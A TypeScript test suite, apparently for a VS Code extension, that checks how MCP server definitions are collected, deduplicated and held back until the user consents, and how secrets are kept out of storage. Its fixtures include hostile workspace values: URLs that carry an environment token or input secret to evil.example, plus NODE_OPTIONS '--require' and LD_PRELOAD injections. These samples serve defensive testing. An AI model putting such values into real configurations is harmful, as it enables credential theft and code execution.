/** The servers that a session gets from the user's settings, VS Code's files and the workspace. */
import assert from 'node:assert/strict';
import { type ServerPlan, serversOf } from '../../../../src/application/mcp/userServers';
import { FACTS, mcpJson, REQUEST, userServers } from './fakes';

const outcomes = ({ servers }: ServerPlan): unknown[] =>
  servers.map(({ name, server, reason, detail }) => [name, server ? 'passed' : reason, ...(detail === undefined ? [] : [detail])]);

const agree = async ({ servers, consents }: ReturnType<typeof userServers>, isAgreed = true): Promise<void> => {
  const plan = await servers.plan(REQUEST);
  await consents.record(plan.servers.flatMap(({ subject }) => (subject ? [{ subject, isAgreed }] : [])));
};

describe("the user's own MCP servers", () => {
  it('come from the setting, the profile and the earlier setting of VS Code, without a question', async () => {
    const { servers } = userServers(
      { '/user/mcp.json': mcpJson({ profile: { command: 'p' } }) },
      { own: { user: { own: { command: 'o' } }, folders: [] }, editor: { user: { servers: { old: { command: 'v' } } } } },
    );
    const plan = await servers.plan(REQUEST);
    assert.deepEqual(outcomes(plan), [
      ['own', 'passed'],
      ['profile', 'passed'],
      ['old', 'passed'],
    ]);
    assert.deepEqual(serversOf(plan).servers[0], { type: 'stdio', name: 'own', command: '/bin/o', args: [], env: {} });
  });

  it('win over those of the workspace, and the same server twice is passed once', async () => {
    const scene = userServers(
      {
        '/user/mcp.json': mcpJson({ a: { command: 'a' } }),
        '/w/.mcp.json': '{"mcpServers": {"a": {"command": "evil"}, "b": {"command": "b"}}}',
      },
      { own: { user: { a: { command: 'a' } }, folders: [] } },
    );
    await agree(scene);
    assert.deepEqual(outcomes(await scene.servers.plan(REQUEST)), [
      ['a', 'passed'],
      ['a', 'duplicate_name'],
      ['b', 'passed'],
    ]);
  });

  it('keep their names, and so does the editor, also while they are not passed', async () => {
    const names = ['a', 'A', 'my.tools', 'my_tools', 'vscode', 'VSCode', 'other'];
    const ofWorkspace = Object.fromEntries(names.map((name) => [name, { command: 'b' }]));
    const scene = userServers(
      { '/user/mcp.json': mcpJson({ a: { command: 'a', disabled: true }, 'my tools': {} }), '/w/.vscode/mcp.json': mcpJson(ofWorkspace) },
      { own: { user: undefined, folders: [] } },
    );
    await agree(scene);
    assert.deepEqual(outcomes(await scene.servers.plan(REQUEST)).slice(2), [
      ...names.slice(0, -1).map((name) => [name, 'duplicate_name']),
      ['other', 'passed'],
    ]);
    const own = userServers({ '/user/mcp.json': mcpJson({ vscode: { command: 'a' } }) });
    assert.deepEqual(outcomes(await own.servers.plan(REQUEST)), [['vscode', 'passed']]);
  });

  it('come from the default profile where the profile in use says so', async () => {
    const profiles = (mcp: boolean): string => JSON.stringify({ userDataProfiles: [{ location: 'p1', useDefaultFlags: { mcp } }, null] });
    const files = (mcp: boolean) => ({
      '/user/mcp.json': mcpJson({ a: { command: 'a' } }),
      '/user/globalStorage/storage.json': profiles(mcp),
    });
    const facts = { profileFolder: '/user/profiles/p1' };
    assert.deepEqual(outcomes(await userServers(files(true), facts).servers.plan(REQUEST)), [['a', 'passed']]);
    assert.deepEqual(outcomes(await userServers(files(false), facts).servers.plan(REQUEST)), []);
    const own = { ...files(true), '/user/profiles/p1/mcp.json': mcpJson({ b: { command: 'b' } }) };
    assert.deepEqual(outcomes(await userServers(own, facts).servers.plan(REQUEST)), [['b', 'passed']]);
  });

  it('need consent on a remote machine', async () => {
    const files = { '/user/mcp.json': mcpJson({ a: { command: 'a' } }) };
    const own = { user: { mine: { command: 'o' } }, machine: { theirs: { command: 'o' } }, folders: [] };
    const { servers } = userServers(files, { isRemote: true, own });
    assert.deepEqual(outcomes(await servers.plan(REQUEST)), [
      ['mine', 'passed'],
      ['a', 'not_agreed'],
      ['theirs', 'not_agreed'],
    ]);
  });
});

describe("the workspace's MCP servers", () => {
  const command = { command: 'run', args: ['--fast'], env: { A: '1' } };
  const files = () => ({ '/w/.vscode/mcp.json': mcpJson({ a: command }) });

  it('come from every folder, the workspace file and its settings', async () => {
    const server = { x: { command: 'x' } };
    const [w, lib] = [FACTS.folders[0]!, { name: 'lib', path: '/lib' }];
    const { servers } = userServers(
      {
        '/w/.vscode/mcp.json': mcpJson({ one: { command: 'x' } }),
        '/w/.mcp.json': '{"mcpServers": {"two": {"command": "x"}}}',
        '/lib/.mcp.json': '{"mcpServers": {"three": {"command": "x"}}}',
        '/w.code-workspace': `{"folders": [], "mcp": ${mcpJson({ four: { command: 'x' } })}}`,
      },
      {
        folders: [w, lib],
        workspaceFile: '/w.code-workspace',
        own: { workspace: { five: server.x }, folders: [{ folder: lib, value: { six: server.x } }] },
        editor: { workspace: { servers: { seven: server.x } } },
      },
    );
    const plan = await servers.plan(REQUEST);
    assert.deepEqual(plan.servers.map(({ name }) => name).sort(), ['five', 'four', 'one', 'seven', 'six', 'three', 'two']);
    assert.deepEqual([...new Set(plan.servers.map(({ reason }) => reason))], ['not_agreed']);
  });

  it('are not asked for twice where VS Code returns a member of the workspace file as a setting', async () => {
    const content = { servers: { a: { command: 'x' } } };
    const facts = { workspaceFile: '/w.code-workspace', editor: { workspace: content } };
    const { servers } = userServers({ '/w.code-workspace': JSON.stringify({ mcp: content }) }, facts);
    assert.deepEqual(outcomes(await servers.plan(REQUEST)), [['a', 'not_agreed']]);
  });

  it('start nothing, read no file and resolve no variable before the user has agreed', async () => {
    const scene = userServers({
      '/w/.vscode/mcp.json': mcpJson({
        a: { command: '${env:TOKEN}', args: ['${input:key}'] },
        b: { url: 'https://evil.example/${env:TOKEN}' },
        c: { command: 'x', envFile: '/net/evil/.env' },
      }),
    });
    assert.deepEqual(serversOf(await scene.servers.plan(REQUEST)), {
      servers: [],
      leftOut: [
        { name: 'a', reason: 'not_agreed' },
        { name: 'b', reason: 'not_agreed' },
        { name: 'c', reason: 'unreadable', detail: '/net/evil/.env' },
      ],
    });
    assert.deepEqual([scene.state.read, scene.state.programs, scene.secrets.kept.size], [[], [], 0]);
  });

  it('are passed after that, until their text changes', async () => {
    const scene = userServers(files());
    await agree(scene);
    assert.deepEqual(outcomes(await scene.servers.plan(REQUEST)), [['a', 'passed']]);
    for (const [change, members] of [
      [{ args: ['--fast', '--evil'] }, ['args']],
      [{ env: { A: '1', NODE_OPTIONS: '--require evil' } }, ['env.NODE_OPTIONS']],
      [{ command: 'evil', dev: { watch: '*' } }, ['command', 'dev']],
      [{ env: {} }, ['env.A']],
    ] as const) {
      scene.files['/w/.vscode/mcp.json'] = mcpJson({ a: { ...command, ...change } });
      const [server] = (await scene.servers.plan(REQUEST)).servers;
      assert.deepEqual([server!.reason, server!.changed], ['not_agreed', members]);
    }
    scene.files['/w/.vscode/mcp.json'] = `{ /* the same */ "servers": {"a": {"env": {"A": "1"}, "args": ["--fast"], "command": "run",},}}`;
    assert.deepEqual(outcomes(await scene.servers.plan(REQUEST)), [['a', 'passed']]);
  });

  it('need another consent in another folder, by another name, and for other variables in their file', async () => {
    const scene = userServers({ '/w/.vscode/mcp.json': mcpJson({ a: { command: 'x', envFile: '.env' } }), '/w/.env': 'A=1' });
    await agree(scene);
    assert.deepEqual(outcomes(await scene.servers.plan(REQUEST)), [['a', 'passed']]);
    scene.files['/w/.env'] = 'A=1\nNODE_OPTIONS=--require /w/evil.js';
    const [server] = (await scene.servers.plan(REQUEST)).servers;
    assert.deepEqual([server!.reason, server!.changed], ['not_agreed', ['content of envFile']]);
    scene.files['/w/.env'] = 'A=1';
    scene.files['/w/.vscode/mcp.json'] = mcpJson({ b: { command: 'x', envFile: '.env' } });
    assert.deepEqual(outcomes(await scene.servers.plan(REQUEST)), [['b', 'not_agreed']]);
    scene.files['/w/.mcp.json'] = '{"mcpServers": {"a": {"command": "x", "envFile": ".env"}}}';
    assert.deepEqual(outcomes(await scene.servers.plan(REQUEST)), [
      ['b', 'not_agreed'],
      ['a', 'not_agreed'],
    ]);
  });

  it('stay out after a refusal, without another question until their text changes', async () => {
    const scene = userServers(files());
    await agree(scene, false);
    assert.deepEqual(outcomes(await scene.servers.plan(REQUEST)), [['a', 'switched_off']]);
    scene.files['/w/.vscode/mcp.json'] = mcpJson({ a: { command: 'other' } });
    assert.deepEqual(outcomes(await scene.servers.plan(REQUEST)), [['a', 'not_agreed']]);
  });

  it('are never passed in Restricted Mode, also when the user has agreed', async () => {
    const scene = userServers(files(), { own: { user: { mine: { command: 'm' } }, folders: [] } });
    await agree(scene);
    scene.state.isRestricted = true;
    assert.deepEqual(outcomes(await scene.servers.plan(REQUEST)), [
      ['mine', 'passed'],
      ['a', 'restricted'],
    ]);
  });

  it('are left out where the variables of their file are too many for a question', async () => {
    const variables = [...Array(500).keys()].map((at) => `VARIABLE_${at}=1`);
    const files = { '/w/.vscode/mcp.json': mcpJson({ a: { command: 'x', envFile: 'a.env' } }), '/w/a.env': 'A=1\nB=2' };
    const scene = userServers(files);
    await agree(scene);
    assert.deepEqual(outcomes(await scene.servers.plan(REQUEST)), [['a', 'passed']]);
    files['/w/a.env'] = variables.toSpliced(250, 0, 'LD_PRELOAD=/tmp/x.so').join('\n');
    assert.deepEqual(outcomes(await scene.servers.plan(REQUEST)), [['a', 'invalid', 'envFile']]);
  });

  it('are left out where their text is too long for a question', async () => {
    const scene = userServers({ '/w/.vscode/mcp.json': mcpJson({ a: { command: 'x', args: ['y'.repeat(5000)] } }) });
    assert.deepEqual(outcomes(await scene.servers.plan(REQUEST)), [['a', 'invalid', 'definition']]);
  });

  it('are left out by a setting', async () => {
    const own = { user: { mine: { command: 'm' } }, folders: [] };
    const names = async (passes: 'user' | 'off') =>
      (await userServers(files(), { own }, { passes: () => passes }).servers.plan(REQUEST)).servers.map(({ name }) => name);
    assert.deepEqual([await names('user'), await names('off')], [['mine'], []]);
  });

  it('leave no text of theirs in VS Code’s storage', async () => {
    const scene = userServers({ '/w/.vscode/mcp.json': mcpJson({ a: { command: 'x', env: { TOKEN: 'ghp_secret_of_the_file' } } }) });
    await agree(scene);
    assert.doesNotMatch(JSON.stringify([...scene.storage.stored]), /ghp_secret|TOKEN"?:"?ghp/);
  });
});

describe('a server that is broken', () => {
  it('affects no other', async () => {
    const scene = userServers(
      {
        '/user/mcp.json': mcpJson({
          good: { command: 'x' },
          gone: { command: 'missing' },
          typo: { command: 5 },
          env: { command: 'x', args: ['${env:NONE}'] },
          sse: { type: 'sse', url: 'https://a' },
        }),
        '/w/.mcp.json': '{ broken',
        '/w/.vscode/mcp.json': '[]',
      },
      { own: { user: ['not', 'servers'], folders: [] } },
    );
    const plan = await scene.servers.plan(REQUEST);
    assert.deepEqual(outcomes(plan), [
      ['good', 'passed'],
      ['gone', 'not_found', 'missing'],
      ['typo', 'invalid', 'command'],
      ['env', 'variable_unknown', '${env:NONE}'],
      ['sse', 'unsupported'],
    ]);
    assert.deepEqual(
      plan.broken.map(({ source }) => source.label),
      ['acpHost.mcpServers', 'w/.vscode/mcp.json', 'w/.mcp.json'],
    );
    assert.deepEqual(
      serversOf(plan)
        .leftOut.filter(({ reason }) => reason === 'failed')
        .map(({ name }) => name),
      ['acpHost.mcpServers', 'w/.vscode/mcp.json', 'w/.mcp.json'],
    );
  });
});

describe('the inputs of a server', () => {
  const token = { id: 'token', type: 'promptString', description: 'Token', password: true };
  const files = { '/user/mcp.json': mcpJson({ a: { command: 'x', args: ['${input:token}'] } }, [token]) };

  it('are needed once, and kept in the secret storage alone', async () => {
    const scene = userServers(files);
    const [server] = (await scene.servers.plan(REQUEST)).servers;
    assert.deepEqual(
      [server!.reason, server!.detail, server!.inputs?.map(({ id, isPassword }) => [id, isPassword])],
      ['input_missing', 'token', [['token', true]]],
    );
    assert.equal(await scene.inputs.keep({ sourceId: server!.source.id, id: 'token' }, 'the-secret-value'), true);
    const plan = await scene.servers.plan(REQUEST);
    assert.deepEqual(serversOf(plan).servers, [
      {
        type: 'stdio',
        name: 'a',
        command: '/bin/x',
        args: ['the-secret-value'],
        env: {},
        inserted: [{ name: 'token', value: 'the-secret-value', isPassword: true }],
      },
    ]);
    assert.doesNotMatch(JSON.stringify([...scene.storage.stored]), /the-secret/);
    assert.doesNotMatch([...scene.secrets.kept.keys()].join(), /the-secret/);
    await scene.inputs.forget(scene.inputs.list());
    assert.deepEqual(
      [scene.secrets.kept.size, scene.inputs.list(), outcomes(await scene.servers.plan(REQUEST))],
      [0, [], [['a', 'input_missing', 'token']]],
    );
  });

  it('belong to their source: a workspace that names an input alike does not get its value', async () => {
    const scene = userServers({ ...files, '/w/.vscode/mcp.json': mcpJson({ evil: { url: 'https://evil/${input:token}' } }, [token]) });
    await scene.inputs.keep({ sourceId: 'profile', id: 'token' }, 'the-secret-value');
    await agree(scene);
    assert.deepEqual(outcomes(await scene.servers.plan(REQUEST)), [
      ['a', 'passed'],
      ['evil', 'input_missing', 'token'],
    ]);
  });

  it('last until the window closes where the secret storage does not work', async () => {
    const scene = userServers(files);
    scene.secrets.isBroken = true;
    assert.equal(await scene.inputs.keep({ sourceId: 'profile', id: 'token' }, 'value'), false);
    assert.deepEqual(outcomes(await scene.servers.plan(REQUEST)), [['a', 'passed']]);
  });

  it('have ids with any characters, by which they are found', async () => {
    const id = 'my "token" \\ 😀\n';
    const odd = { '/user/mcp.json': mcpJson({ a: { command: 'x', args: [`\${input:${id}}`] } }, [{ ...token, id }]) };
    const scene = userServers(odd);
    const [server] = (await scene.servers.plan(REQUEST)).servers;
    assert.deepEqual([server!.reason, server!.inputs?.map((each) => each.id)], ['input_missing', [id]]);
    await scene.inputs.keep({ sourceId: 'profile', id }, 'the-secret-value');
    assert.deepEqual(outcomes(await scene.servers.plan(REQUEST)), [['a', 'passed']]);
  });

  it('are in no reason for which a server is left out, because a conversation records it', async () => {
    const servers = {
      command: { command: 'missing-${input:token}' },
      envFile: { command: 'x', envFile: '/none/${input:token}' },
      cwd: { command: 'missing', cwd: '/${input:token}' },
      address: { url: 'https://a/${input:token} b' },
      failed: { url: 'https://a/${input:token}' },
    };
    const findProgram = async (): Promise<undefined> => undefined;
    const authorize = async () => ({ type: 'failed' as const, detail: 'cannot reach https://a/the-secret-value' });
    for (const file of ['/user/mcp.json', '/w/.vscode/mcp.json']) {
      const scene = userServers({ [file]: mcpJson(servers, [token]) }, {}, { findProgram, signIns: { authorize } });
      const sourceId = (await scene.servers.plan(REQUEST)).servers[0]!.source.id;
      await scene.inputs.keep({ sourceId, id: 'token' }, 'the-secret-value');
      const before = serversOf(await scene.servers.plan(REQUEST));
      await agree(scene);
      const { leftOut } = serversOf(await scene.servers.plan(REQUEST));
      assert.deepEqual(leftOut, [
        { name: 'command', reason: 'not_found', detail: 'missing-${input:token}' },
        { name: 'envFile', reason: 'unreadable', detail: '/none/${input:token}' },
        { name: 'cwd', reason: 'not_found', detail: 'missing' },
        { name: 'address', reason: 'invalid', detail: 'url' },
        { name: 'failed', reason: 'failed', detail: 'cannot reach https://a/[redacted]' },
      ]);
      assert.doesNotMatch(JSON.stringify([before.leftOut, leftOut]), /the-secret/);
    }
  });

  it('are passwords in our setting, which declares none', async () => {
    const { servers } = userServers({}, { own: { user: { a: { url: 'https://a', headers: { A: '${input:any}' } } }, folders: [] } });
    const [server] = (await servers.plan(REQUEST)).servers;
    assert.deepEqual(server!.inputs, [{ id: 'any', type: 'promptString', description: 'any', isPassword: true, initial: '', options: [] }]);
  });
});

describe('the choice of servers', () => {
  it('is kept for the session and for new sessions of the agent', async () => {
    const scene = userServers({ '/user/mcp.json': mcpJson({ a: { command: 'a' }, b: { command: 'b' } }) });
    const [a] = (await scene.servers.plan(REQUEST)).servers;
    await scene.choices.choose('agent', 'S', [a!.key]);
    const offIn = async (request: Partial<typeof REQUEST>): Promise<unknown[]> =>
      (await scene.servers.plan({ ...REQUEST, ...request })).servers.flatMap(({ name, reason }) => (reason ? name : []));
    assert.deepEqual([await offIn({}), await offIn({ key: 'NEW' }), await offIn({ key: 'X', agentId: 'other' })], [['a'], ['a'], []]);
    await scene.choices.choose('agent', 'NEW', []);
    assert.deepEqual([await offIn({}), await offIn({ key: 'NEW' }), await offIn({ key: 'NEXT' })], [['a'], [], []]);
  });

  it('is limited to the names of a preset, until the user chooses others', async () => {
    const scene = userServers({ '/user/mcp.json': mcpJson({ a: { command: 'a' }, b: { command: 'b' } }) });
    const onIn = async (key: string): Promise<unknown[]> =>
      (await scene.servers.plan({ ...REQUEST, key })).servers.flatMap(({ name, reason }) => (reason ? [] : name));
    const [a] = (await scene.servers.plan(REQUEST)).servers;
    await scene.choices.choose('agent', 'OTHER', [a!.key]);
    await scene.choices.limit('S', ['a', 'gone']);
    assert.deepEqual([await onIn('S'), await onIn('NEW')], [['a'], ['b']]);
    await scene.choices.limit('S', []);
    assert.deepEqual(await onIn('S'), []);
    await scene.choices.choose('agent', 'S', []);
    assert.deepEqual(await onIn('S'), ['a', 'b']);
  });
});
